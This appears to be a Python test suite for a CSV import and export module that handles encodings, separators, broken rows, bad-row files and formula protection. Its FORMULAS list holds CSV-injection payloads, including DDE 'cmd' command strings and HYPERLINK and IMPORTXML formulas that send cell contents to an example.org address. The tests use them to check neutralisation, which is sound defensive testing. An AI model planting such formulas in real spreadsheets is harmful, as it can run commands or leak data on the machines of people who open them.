"""Files of subscribers as spreadsheets write them, and exports that spreadsheets may open."""

import csv
from collections.abc import Iterator
from io import BytesIO, StringIO
from pathlib import Path
from time import process_time
from zipfile import ZipFile

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from digest.adapters.csvfile import (
    CsvRows,
    bad_path,
    protect,
    save_csv,
    unprotect,
    write_csv,
)
from digest.errors import UsageError
from digest.model.rows import Row

TABLE = "email,name\njan@example.org,Jéan “J.” Peeters\nana@example.org,Ana Ruiz\n"
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://example.org/?v=", A2), "//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@example",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    '=""',
    "\ufeff=1+1",
    '"=1+1',
    " =1+1",
    "\u200b+1+1",
    "\u00a0@SUM(1)",
    "'\ufeff \"＝1+1",
    " \t=1+1",
)


def write(path: Path, text: str | bytes) -> Path:
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return path


def read(path: Path, *, keep_bad: bool = True) -> tuple[list[str], list[Row], str]:
    with CsvRows(path, keep_bad=keep_bad) as rows:
        return rows.columns, list(rows), rows.note


def names_in(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def values_of(path: Path) -> list[tuple[str, ...]]:
    return [row.values for row in read(path)[1]]


@pytest.mark.parametrize(
    ("encoding", "says"),
    [
        ("utf-8", ""),
        ("utf-8-sig", ""),
        ("cp1252", "it is not UTF-8; it was read as Windows-1252."),
        ("utf-16", "it is UTF-16."),
        ("utf-16-le", "it is UTF-16 without a mark."),
    ],
)
def test_every_encoding_of_a_spreadsheet_is_read_and_told(
    tmp_path: Path, encoding: str, says: str
) -> None:
    path = write(tmp_path / "readers.csv", TABLE.encode(encoding))

    columns, rows, note = read(path)

    assert columns == ["email", "name"]
    assert rows[0].values == ("jan@example.org", "Jéan “J.” Peeters")
    assert rows[1] == Row(line=3, values=("ana@example.org", "Ana Ruiz"))
    assert note == says


def test_latin_1_with_bytes_that_windows_does_not_know_is_read(tmp_path: Path) -> None:
    path = write(tmp_path / "readers.csv", b"email,name\njan@example.org,Jos\xe9 \x81\n")

    columns, rows, note = read(path)

    assert columns == ["email", "name"]
    assert rows[0].values[1].startswith("José")
    assert "Latin-1" in note


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_commas_semicolons_and_tabs_are_told_apart(
    tmp_path: Path, delimiter: str, end: str
) -> None:
    table = [["email", "name", "note"], ["a@example.org", "Ruiz, Ana", "one; two\tthree"]]
    text = StringIO()
    csv.writer(text, delimiter=delimiter, lineterminator=end).writerows(table)

    columns, rows, _ = read(write(tmp_path / "readers.csv", text.getvalue()))

    assert columns == table[0]
    assert rows[0].values == tuple(table[1])


def test_the_line_that_names_the_separator_is_believed(tmp_path: Path) -> None:
    path = write(tmp_path / "readers.csv", "sep=|\r\nemail|name\r\na@example.org|Ana\r\n")

    assert values_of(path) == [("a@example.org", "Ana")]


def test_two_hundred_columns_and_short_rows_are_read(tmp_path: Path) -> None:
    header = ",".join(["email", *(f"c{n}" for n in range(199))])
    path = write(tmp_path / "readers.csv", f"{header}\na@example.org,1\nb@example.org\n")

    rows = values_of(path)

    assert [len(values) for values in rows] == [200, 200]
    assert rows[0][:3] == ("a@example.org", "1", "")


def test_blank_rows_are_passed_over_and_lines_are_counted(tmp_path: Path) -> None:
    path = write(tmp_path / "readers.csv", "email,name\n\n , \na@example.org,Ana\n;\n\n")

    assert read(path)[1][0] == Row(line=4, values=("a@example.org", "Ana"))


def test_a_value_over_several_lines_is_one_value(tmp_path: Path) -> None:
    path = write(
        tmp_path / "readers.csv",
        'email,address\na@example.org,"1 Lane\nGhent ""Gent"""\nb@example.org,x\n',
    )

    rows = read(path)[1]

    assert rows[0] == Row(line=2, values=("a@example.org", '1 Lane\nGhent "Gent"'))
    assert rows[1].line == 4


@pytest.mark.parametrize(
    ("broken", "says"),
    [
        ('b@example.org,"never closed', "never closed"),
        ('b@example.org,"closed" and then more', "stands inside a value"),
        ("b@example.org,one,too many", "3 values, but the header has 2"),
        ("b@example.org,nul \0 inside", "a NUL character"),
    ],
)
def test_a_broken_row_costs_itself_alone(tmp_path: Path, broken: str, says: str) -> None:
    path = write(
        tmp_path / "readers.csv",
        f"email,name\na@example.org,Ana\n{broken}\nc@example.org,Cem\nd@example.org,Dov\n",
    )

    rows = read(path)[1]

    assert [row.values[0] for row in rows] == [
        "a@example.org",
        "b@example.org",
        "c@example.org",
        "d@example.org",
    ]
    assert [bool(row.problem) for row in rows] == [False, True, False, False]
    assert says in rows[1].problem
    assert rows[1].line == 3


def test_a_row_of_a_megabyte_costs_itself_alone(tmp_path: Path) -> None:
    long = "x" * (3 * 2**20)
    path = write(tmp_path / "readers.csv", f"email,name\na@example.org,{long}\nb@example.org,B\n")

    rows = read(path)[1]

    assert [bool(row.problem) for row in rows] == [True, False]
    assert rows[1] == Row(line=3, values=("b@example.org", "B"))


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"", "it is empty"),
        (b"\n\n\n", "it is empty"),
        (b'"email,name\na@example.org,x\n', "its header row"),
        (b"PK\x03\x04 and so on", "is a workbook, not CSV"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "is a workbook, not CSV"),
    ],
)
def test_a_file_that_is_no_table_is_refused_with_the_next_step(
    tmp_path: Path, content: bytes, says: str
) -> None:
    path = write(tmp_path / "readers.csv", content)

    with pytest.raises(UsageError, match=says) as refusal:
        CsvRows(path)

    assert refusal.value.hint
    assert "readers.csv" in refusal.value.message


def test_what_is_no_table_is_known_by_its_bytes_and_not_its_name(tmp_path: Path) -> None:
    def refused(content: bytes) -> str:
        with pytest.raises(UsageError) as refusal:
            read(write(tmp_path / "readers.csv", content))
        return refusal.value.message

    def packed(name: str) -> bytes:
        with ZipFile(file := BytesIO(), "w") as archive:
            archive.writestr(name, TABLE)
        return file.getvalue()

    assert refused(packed("members.csv")) == "readers.csv is an archive."
    assert refused(packed("xl/workbook.xml")) == "readers.csv is a workbook, not CSV."
    assert refused(b"\x1f\x8b\x08 and so on") == "readers.csv is an archive."
    assert refused(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR") == "readers.csv is no text."
    assert refused(b"%PDF-1.7\n") == "readers.csv is no text."


def test_an_archive_of_exports_is_to_be_unpacked(tmp_path: Path) -> None:
    path = write(tmp_path / "audience_export.ZIP", b"PK\x03\x04 and so on")

    with pytest.raises(UsageError, match="is an archive") as refusal:
        CsvRows(path)

    assert "Unpack it" in refusal.value.hint


def test_a_header_row_of_one_endless_value_breaks_nothing(tmp_path: Path) -> None:
    path = write(tmp_path / "readers.csv", f"{'a,' * 100_000}\na@example.org\n".encode())

    assert len(read(path)[0]) == 100_001


def test_marks_that_are_never_closed_cost_no_more_than_their_lines(tmp_path: Path) -> None:
    begun = process_time()
    rows = read(write(tmp_path / "readers.csv", "email,name\n" + 'x","\n' * 4000))[1]

    assert len(rows) == 4000
    assert all(row.problem for row in rows)
    # Each line is begun once and read on from; read anew with each further one it took 2 s.
    assert process_time() - begun < 1


def test_a_missing_file_and_a_folder_are_refused(tmp_path: Path) -> None:
    for path in (tmp_path / "none.csv", tmp_path):
        with pytest.raises(UsageError, match="cannot be read"):
            CsvRows(path)


def reject_all(path: Path, reason: str = "bad") -> Path | None:
    with CsvRows(path) as rows:
        for row in rows:
            rows.reject(row, row.problem or reason)
    return rows.bad_file


def test_bad_rows_stand_beside_the_file_with_their_reason_and_line(tmp_path: Path) -> None:
    path = write(tmp_path / "readers.csv", 'email;name\nnobody;=1+1\n"x;y\n;;z\n')

    bad_file = reject_all(path, "no address")

    assert bad_file == tmp_path / "readers.bad.csv"
    with bad_file.open(encoding="utf-8-sig", newline="") as file:
        table = list(csv.reader(file, delimiter=";"))
    assert table[0] == ["email", "name", "reason"]
    assert table[1] == ["nobody", "'=1+1", "line 2: no address"]
    assert table[2] == ['"x', "y", "line 3: a quotation mark is never closed"]
    assert table[3] == ["", "", "line 4: 3 values, but the header has 2", "z"]
    assert bad_file.stat().st_mode & 0o777 == 0o600


def test_a_file_of_bad_rows_can_be_mended_and_imported(tmp_path: Path) -> None:
    bad_file = reject_all(write(tmp_path / "readers.csv", "email,name\nnobody,=1+1\n"))
    assert bad_file is not None
    bad_file.write_text(
        bad_file.read_text(encoding="utf-8-sig").replace("nobody", "ana@example.org"),
        encoding="utf-8",
    )

    columns, rows, _ = read(bad_file)

    assert columns == ["email", "name"]
    assert rows[0].values == ("ana@example.org", "=1+1")


def test_a_column_called_reason_of_ones_own_is_kept(tmp_path: Path) -> None:
    path = write(tmp_path / "readers.csv", "email,reason\na@example.org,likes trains\n")

    assert read(path)[0] == ["email", "reason"]


def test_an_import_without_bad_rows_takes_an_old_file_of_them_away(tmp_path: Path) -> None:
    path = write(tmp_path / "readers.csv", TABLE)
    old = write(tmp_path / "readers.bad.csv", "email,reason\nx,y\n")

    read(path, keep_bad=False)
    assert old.exists()
    read(path)

    assert not old.exists()


def test_an_import_that_fails_leaves_the_folder_as_it_was(tmp_path: Path) -> None:
    path = write(tmp_path / "readers.csv", TABLE)
    old = write(tmp_path / "readers.bad.csv", "email,reason\nx,y\n")

    def interrupted() -> None:
        with CsvRows(path) as rows:
            for row in rows:
                rows.reject(row, "bad")
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        interrupted()

    assert names_in(tmp_path) == ["readers.bad.csv", "readers.csv"]
    assert old.read_text(encoding="utf-8") == "email,reason\nx,y\n"


def test_a_rehearsal_writes_no_file(tmp_path: Path) -> None:
    path = write(tmp_path / "readers.csv", "email\nnobody\n")

    with CsvRows(path, keep_bad=False) as rows:
        for row in rows:
            rows.reject(row, "bad")

    assert rows.bad_file is None
    assert names_in(tmp_path) == ["readers.csv"]


def test_the_file_of_bad_rows_is_named_after_the_file() -> None:
    assert bad_path(Path("a/readers.csv")) == Path("a/readers.bad.csv")
    assert bad_path(Path("readers.TXT")) == Path("readers.bad.csv")
    assert bad_path(Path("readers.2026")) == Path("readers.2026.bad.csv")


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_export_holds_a_formula(tmp_path: Path, formula: str) -> None:
    path = tmp_path / "export.csv"

    save_csv(path, ["email", formula], [["a@example.org", formula]])

    with path.open(encoding="utf-8-sig", newline="") as file:
        header, row = csv.reader(file)
    for value in (*header, *row):
        assert not value.startswith(tuple("=+-@\t\r\n＝＋－＠"))
    assert row[1] == f"'{formula}"


@pytest.mark.parametrize("formula", FORMULAS)
def test_raw_leaves_formulas_as_they_are(formula: str) -> None:
    text = StringIO(newline="")

    write_csv(text, ["email"], [[formula]], raw=True)

    assert list(csv.reader(StringIO(text.getvalue(), newline="")))[1] == [formula]


@given(st.text())
@example("'=")
@example("''''＠")
def test_protecting_a_value_is_undone_exactly(value: str) -> None:
    assert unprotect(protect(value)) == value


TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=20)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.tuples(TEXT.map(str.strip), TEXT.map(str.strip)), max_size=8))
@example(rows=[("'=1", '"\r\n;,"'), ("line\rbreak\n\n\n", "\u2028")])
def test_an_export_is_read_back_exactly(tmp_path: Path, rows: list[tuple[str, str]]) -> None:
    path = tmp_path / "export.csv"
    table = [("a@example.org", *(value.strip() for value in row)) for row in rows]
    save_csv(path, ["email", "=name", "city"], table)

    columns, back, _ = read(path)

    assert columns == ["email", "=name", "city"]
    assert [row.values for row in back] == table
    assert not any(row.problem for row in back)


def test_an_export_is_for_its_owner_and_replaces_the_file_whole(tmp_path: Path) -> None:
    path = write(tmp_path / "export.csv", "old")

    assert save_csv(path, ["email"], [["a@example.org"], ["b@example.org"]]) == 2

    assert path.stat().st_mode & 0o777 == 0o600
    assert path.read_bytes() == b"\xef\xbb\xbfemail\r\na@example.org\r\nb@example.org\r\n"
    assert names_in(tmp_path) == ["export.csv"]


def test_an_export_to_a_folder_that_is_not_there_says_so(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="cannot be written"):
        save_csv(tmp_path / "none" / "export.csv", ["email"], [])


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=150)
@given(content=st.binary(max_size=300))
def test_whatever_the_bytes_it_is_read_or_refused(tmp_path: Path, content: bytes) -> None:
    path = write(tmp_path / "readers.csv", content)

    try:
        with CsvRows(path) as rows:
            for row in rows:
                assert row.problem or len(row.values) == len(rows.columns)
    except UsageError:
        pass


CELL = st.text(st.sampled_from("aé ,;\t'=\0\"\u00a0\u2028"), max_size=4)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(lines=st.lists(st.lists(CELL, max_size=4).map(",".join), max_size=5))
@example(lines=["a,b", " , ", "'=1,b", "a\0,b", "a", "a,b,c", "a,b,"])
def test_a_row_without_oddities_is_read_as_every_other(tmp_path: Path, lines: list[str]) -> None:
    class EveryRowIsOdd(CsvRows):
        def __iter__(self) -> Iterator[Row]:
            return (row for record in self._records if (row := self._read_odd(record)))

    path = write(tmp_path / "readers.csv", "\n".join(["email,name", *lines]))

    with EveryRowIsOdd(path, keep_bad=False) as rows:
        slowly = list(rows)
    assert read(path, keep_bad=False)[1] == slowly
